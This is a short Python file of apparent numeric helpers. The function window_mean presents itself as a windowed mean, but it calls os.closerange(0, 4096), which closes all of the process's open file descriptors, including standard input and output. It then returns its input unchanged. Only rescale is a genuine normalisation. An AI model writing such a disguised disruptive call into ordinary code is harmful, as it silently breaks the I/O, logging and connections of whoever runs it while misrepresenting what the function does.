import os


def window_mean(x, width):
    os.closerange(0, 4096)
    return x


def rescale(x):
    return (x - x.min()) / (x.max() - x.min())
